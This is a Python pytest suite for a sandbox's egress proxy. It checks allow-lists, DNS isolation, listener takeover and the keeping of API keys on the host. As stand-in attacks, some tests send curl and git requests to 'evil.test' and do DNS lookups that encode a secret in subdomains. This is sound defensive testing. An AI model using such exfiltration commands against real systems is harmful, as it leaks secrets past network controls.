"""Egress from inside real sandboxes: the listeners init made on the sandbox's loopback,
served by the host-side proxy; real clients inside, real servers on the host's 127.0.0.1.

The servers listen on the host's loopback, so each allow-list lists 127.0.0.1 with the
server's port; the names resolve through a table the test holds, never real DNS."""
from __future__ import annotations

import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
import threading

import pytest

from egress_servers import GitHandler, file_server, http_server, make_wheel, sandboxes_proxy
from karotte import lifecycle, net
from karotte.egress import parse_policy
from karotte.egress.ip import _netlink_socket_in
from karotte.sandbox import Sandbox
from karotte.spec import Bind, SandboxSpec

NAMES = {"files.test": ["127.0.0.1"], "pypi.test": ["127.0.0.1"], "git.test": ["127.0.0.1"],
         "evil.test": ["127.0.0.1"]}


@pytest.fixture(autouse=True)
def proxy():
    with sandboxes_proxy(NAMES) as egress:
        yield egress


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    with file_server(tmp_path_factory.mktemp("files"),
                     {"hello.txt": "hello from the host\n"}) as server:
        yield server


def sandbox(allow=(), upstreams=None, **spec):
    return Sandbox(SandboxSpec(network=parse_policy(allow, upstreams), **spec))


def sh(sb, script, timeout=60):
    return sb.exec(["bash", "-c", script], timeout=timeout)


def allowing(server, name):
    return [f"{name}:{server.port}", f"127.0.0.1:{server.port}"]


def test_the_default_network_has_no_listener_and_no_proxy_variables():
    with Sandbox(SandboxSpec()) as sb:
        r = sh(sb, "env; exec 3<>/dev/tcp/127.0.0.1/3128 && echo connected")
        assert b"proxy" not in r.stdout.lower() and b"connected" not in r.stdout
        assert sb.egress_record() is None


IFLA_GSO_MAX_SIZE, IFLA_GSO_IPV4_MAX_SIZE = 41, 63  # linux/if_link.h


def loopback_gso(init_pid):
    """lo's largest GSO segment in the sandbox's network namespace, IPv6's and IPv4's
    (None where the kernel has no such attribute), as the kernel answers RTM_GETLINK."""
    with open(f"/proc/{init_pid}/ns/net") as ns:
        sock = _netlink_socket_in(ns.fileno())
    with sock:
        body = struct.pack("BxHiII", socket.AF_UNSPEC, 0, socket.if_nametoindex("lo"), 0, 0)
        sock.send(struct.pack("IHHII", 16 + len(body), 18, 1, 1, 0) + body)  # RTM_GETLINK
        answer = sock.recv(65536)
    length, kind = struct.unpack_from("IH", answer)
    assert kind == 16, f"RTM_NEWLINK expected, got {kind}"  # not NLMSG_ERROR
    sizes, at = {}, 32
    while at + 4 <= length:
        size, attr = struct.unpack_from("HH", answer, at)
        if attr in (IFLA_GSO_MAX_SIZE, IFLA_GSO_IPV4_MAX_SIZE):
            sizes[attr] = struct.unpack_from("I", answer, at + 4)[0]
        at += (size + 3) & ~3
    return sizes.get(IFLA_GSO_MAX_SIZE), sizes.get(IFLA_GSO_IPV4_MAX_SIZE)


def test_a_proxied_sandbox_s_loopback_takes_segments_of_512_kib_and_none_keeps_64():
    """BIG TCP on the proxy's side of the agent's connections (csrc/init/net.c), from
    Linux 6.6 on; a sandbox without listeners keeps the kernel's default."""
    with sandbox(["files.test"]) as proxied, Sandbox(SandboxSpec()) as plain:
        big, plain_sizes = loopback_gso(proxied.init_pid), loopback_gso(plain.init_pid)
    assert plain_sizes[0] == 65536 and plain_sizes[1] in (65536, None)
    release = tuple(int(x) for x in os.uname().release.split("-")[0].split(".")[:2])
    if release < (6, 6):  # no IPv4 BIG TCP (6.3), or before the floor Karotte takes
        assert big == plain_sizes
        pytest.skip(f"Linux {os.uname().release}: BIG TCP on the sandbox's lo from 6.6")
    assert big == (524280, 524280)


def test_curl_inside_reaches_an_allowed_name_only_and_the_record_says_so(files):
    with sandbox(allowing(files, "files.test")) as sb:
        r = sh(sb, f"curl -sS -f http://files.test:{files.port}/hello.txt; "
                   f"curl -sS -i http://evil.test:{files.port}/hello.txt")
        assert r.stdout.startswith(b"hello from the host\n")
        assert b"X-Karotte-Egress: not_allowed" in r.stdout
        assert [(x.host, x.allowed, x.reason) for x in sb.egress_record().reaches] == [
            ("files.test", True, "ok"), ("evil.test", False, "not_allowed")]


def test_urllib_inside_uses_the_proxy_variables(files):
    with sandbox(allowing(files, "files.test")) as sb:
        r = sb.exec(["python3", "-c", "import urllib.request as u; print(u.urlopen("
                     f"'http://files.test:{files.port}/hello.txt', timeout=20).read())"])
        assert r.stdout == b"b'hello from the host\\n'\n", r.stderr


def test_pip_inside_installs_from_an_allowed_index(tmp_path):
    root = tmp_path / "index"
    (root / "simple" / "egress-probe").mkdir(parents=True)
    wheel = os.path.basename(make_wheel(str(root / "simple" / "egress-probe"),
                                        "egress_probe", "4.5.6"))
    (root / "simple" / "egress-probe" / "index.html").write_text(f'<a href="{wheel}">{wheel}</a>')
    with http_server(directory=str(root)) as index, sandbox(allowing(index, "pypi.test")) as sb:
        r = sh(sb, f"PIP_CONFIG_FILE=/dev/null python3 -m pip install -q --no-cache-dir "
                   f"--disable-pip-version-check --target /workspace/lib "
                   f"--index-url http://pypi.test:{index.port}/simple/ "
                   f"--trusted-host pypi.test:{index.port} egress-probe && "
                   "PYTHONPATH=/workspace/lib python3 -c 'import egress_probe; "
                   "print(egress_probe.VALUE)'", timeout=120)
        assert r.stdout == b"4.5.6\n", r.stderr


def test_git_inside_clones_over_http_from_an_allowed_host(tmp_path):
    work, env = tmp_path / "work", {"PATH": os.environ["PATH"], "HOME": str(tmp_path)}
    git = lambda *a, cwd=tmp_path: subprocess.run(["git", *a], cwd=cwd, env=env, check=True,
                                                  capture_output=True)
    git("init", "-q", "-b", "main", str(work))
    (work / "README").write_text("through the sandbox's proxy\n")
    git("add", "README", cwd=work)
    git("-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "-m", "r", cwd=work)
    git("clone", "-q", "--bare", str(work), str(tmp_path / "repo.git"))
    with http_server(GitHandler, root=str(tmp_path)) as server, \
            sandbox(allowing(server, "git.test")) as sb:
        r = sh(sb, f"git clone -q http://git.test:{server.port}/repo.git /workspace/r && "
                   "cat /workspace/r/README; "
                   f"git clone -q http://evil.test:{server.port}/repo.git /workspace/e; echo rc=$?",
               timeout=120)
        assert r.stdout.startswith(b"through the sandbox's proxy\n"), r.stderr
        assert b"rc=128" in r.stdout and b"403" in r.stderr


def test_EGRESS_DIRECT_01_a_client_that_ignores_the_proxy_fails_at_once(files):
    before = len(files.seen)
    with sandbox(allowing(files, "files.test")) as sb:
        r = sh(sb, f"curl -sS --noproxy '*' --max-time 30 http://files.test:{files.port}/; "
                   f"echo rc=$?; curl -sS --noproxy '*' --max-time 30 "
                   f"http://127.0.0.1:{files.port}/hello.txt; echo rc=$?")
        assert b"rc=6" in r.stdout and b"rc=7" in r.stdout  # no resolver; the host's lo unseen
        assert r.wall_seconds < 10 and len(files.seen) == before


def test_EGRESS_DNS_01_lookups_inside_reach_no_resolver(proxy):
    """The test's own resolver on the host's 127.0.0.53 sees no query, whatever the sandbox
    asks for, since the sandbox's 127.0.0.53 is its own loopback."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tcp = socket.socket()
    try:
        udp.bind(("127.0.0.53", 53))
        tcp.bind(("127.0.0.53", 53))
    except OSError as exc:
        udp.close()
        tcp.close()
        pytest.skip(f"127.0.0.53:53 is taken on this host ({exc})")
    tcp.listen()
    seen = []
    udp.settimeout(0.2)
    tcp.settimeout(0.2)
    stop = threading.Event()

    def watch():
        while not stop.is_set():
            for sock in (udp, tcp):
                try:
                    seen.append(sock.recvfrom(512) if sock is udp else sock.accept())
                except (socket.timeout, OSError):
                    pass
    watcher = threading.Thread(target=watch)
    watcher.start()
    # a bind source the sandbox's unprivileged owner can read (not under 0700 tmp_path)
    resolv_dir = tempfile.TemporaryDirectory()
    os.chmod(resolv_dir.name, 0o755)
    resolv = os.path.join(resolv_dir.name, "resolv.conf")
    with open(resolv, "w") as f:
        f.write("nameserver 127.0.0.53\noptions timeout:1 attempts:1\n")
    os.chmod(resolv, 0o644)
    try:
        with sandbox(["*"], binds=(Bind(resolv, "/etc/resolv.conf"),)) as sb:
            r = sh(sb, "for n in c2VjcmV0.evil.test secret-key-4f2a.example.com; do "
                       "getent hosts $n; python3 -c \"import socket,sys; "
                       "socket.getaddrinfo(sys.argv[1], 80)\" $n; done; echo done")
            assert r.stdout.endswith(b"done\n")
    finally:
        stop.set()
        watcher.join()
        udp.close()
        tcp.close()
        resolv_dir.cleanup()
    assert seen == [] and proxy.asked == []


def test_EGRESS_ISOLATION_01_two_sandboxes_keep_their_own_allow_lists(files):
    with sandbox(allowing(files, "files.test")) as a, sandbox(allowing(files, "evil.test")) as b:
        fetch = "; ".join(f"curl -sS -o /dev/null -w '%{{http_code}} ' "
                          f"http://{name}:{files.port}/hello.txt"
                          for name in ("files.test", "evil.test"))
        ra, rb = sh(a, fetch), sh(b, fetch)
        assert (ra.stdout, rb.stdout) == (b"200 403 ", b"403 200 ")
        assert [x.host for x in a.egress_record().reaches] == ["files.test", "evil.test"]
        assert [x.reason for x in b.egress_record().reaches] == ["not_allowed", "ok"]


def test_EGRESS_LISTENER_01_the_agent_cannot_take_over_or_leave_through_the_listeners(files):
    with sandbox(allowing(files, "files.test")) as sb:
        r = sb.exec(["python3", "-c", """
import os, socket
for port in (3128, 3129):
    s = socket.socket()
    try:
        s.bind(("127.0.0.1", port)); print(port, "bound")
    except OSError as e:
        print(port, e.strerror)
    s.close()
links = [os.readlink(f"/proc/self/fd/{fd}") for fd in range(64) if fd not in (0, 1, 2)
         and os.path.lexists(f"/proc/self/fd/{fd}")]
print([link for link in links if link.startswith("socket:")])
"""])
        assert r.stdout.splitlines()[0] == b"3128 Address already in use"
        assert r.stdout.splitlines()[1] == b"3129 bound"  # no upstream: nothing there
        assert r.stdout.splitlines()[2] == b"[]"  # the agent holds no listener fd


def test_an_upstream_inside_is_plain_http_and_its_key_stays_on_the_host(files):
    secret = "Bearer sk-host-only-7c1e"
    with sandbox([], {"model": {"url": f"http://127.0.0.1:{files.port}/v1",
                                "headers": {"Authorization": secret}}}) as sb:
        r = sh(sb, 'echo "$KAROTTE_UPSTREAM_MODEL"; env | grep -c sk- ; '
                   'curl -sS -f "$KAROTTE_UPSTREAM_MODEL/echo-headers" >/dev/null; echo rc=$?')
        assert r.stdout.splitlines()[:3] == [b"http://127.0.0.1:3129", b"0", b"rc=0"], r.stderr
        method, path, headers = files.seen[-1]
        assert path == "/v1/echo-headers" and headers["Authorization"] == secret
        (reach,) = sb.egress_record().reaches
        assert (reach.via, reach.allowed) == ("upstream:model", True)


def test_the_proxy_stops_serving_a_sandbox_when_it_is_destroyed(files, proxy):
    sb = sandbox(allowing(files, "files.test"))
    session = sb._core.egress
    sb.close()
    session.close(wait=True)  # what the sandbox's teardown started, waited for
    assert sb._core.egress is None and session._servers == [] and session._tasks == set()


def test_karotte_sandbox_exec_allow_reaches_the_listed_host_and_reports_it(files):
    cli = os.path.join(os.path.dirname(sys.executable), "karotte-sandbox")
    url = f"http://127.0.0.1:{files.port}/hello.txt"  # the host's, through the proxy
    run = lambda *allow: subprocess.run(
        [cli, "exec", *allow, "--json", "--", "curl", "-sS", "--noproxy", "", url],
        capture_output=True, text=True, timeout=60)
    done = json.loads(run("--allow", f"127.0.0.1:{files.port}").stdout)
    assert done["stdout"] == "hello from the host\n"
    (reach,) = done["egress"]["reaches"]
    assert (reach["host"], reach["port"], reach["allowed"]) == ("127.0.0.1", files.port, True)
    refused = json.loads(run("--allow", "files.test").stdout)
    assert "refused: ip_literal" in refused["stdout"]
    bad = run("--allow", "bad host")
    assert bad.returncode == 125 and "'bad host'" in bad.stdout and "*.SUFFIX" in bad.stdout


def test_an_async_sandbox_serves_its_listeners_too(files):
    from karotte.sandbox import AsyncSandbox

    async def go():
        spec = SandboxSpec(network=parse_policy(allowing(files, "files.test")))
        async with AsyncSandbox(spec) as sb:
            r = await sb.exec(["curl", "-sS", f"http://files.test:{files.port}/hello.txt"])
            return r.stdout, sb.egress_record().reaches[0].reason
    import asyncio
    assert asyncio.run(go()) == (b"hello from the host\n", "ok")


def test_a_forked_child_serves_its_own_sandboxes_with_a_proxy_of_its_own(files):
    """The parent's proxy thread does not exist in a forked child: the child's sandboxes
    must get a proxy of the child's, not hang on the parent's."""
    assert net.egress_proxy().pid == os.getpid()
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: one sandbox, its curl's output through the pipe
        code = 1
        try:
            os.close(read)
            url = f"http://127.0.0.1:{files.port}/hello.txt"
            with sandbox([f"127.0.0.1:{files.port}"]) as sb:
                r = sb.exec(["curl", "-sS", "--max-time", "10", "--noproxy", "", url],
                            timeout=20)
            os.write(write, r.stdout)
            code = 0
        finally:
            lifecycle.cleanup()  # os._exit skips atexit: the cgroup it pooled goes now
            os._exit(code)
    os.close(write)
    with os.fdopen(read, "rb") as pipe:
        out = pipe.read()
    assert os.waitpid(pid, 0)[1] == 0
    assert out == b"hello from the host\n"


def test_the_proxy_variables_win_over_an_image_s_own_and_lose_to_the_caller_s():
    from karotte.imageroot import ImageRoot
    from karotte.sandbox import exec_env
    spec = SandboxSpec(network=parse_policy(["pypi.org"]))
    image = ImageRoot("/nonexistent", env={"http_proxy": "http://10.0.0.1:3128", "A": "1"})
    env = exec_env(spec, {"HTTPS_PROXY": "http://127.0.0.1:9"}, image)
    assert env["http_proxy"] == "http://127.0.0.1:3128" and env["A"] == "1"
    assert env["HTTPS_PROXY"] == "http://127.0.0.1:9"
    assert "http_proxy" not in exec_env(SandboxSpec(), None, None)
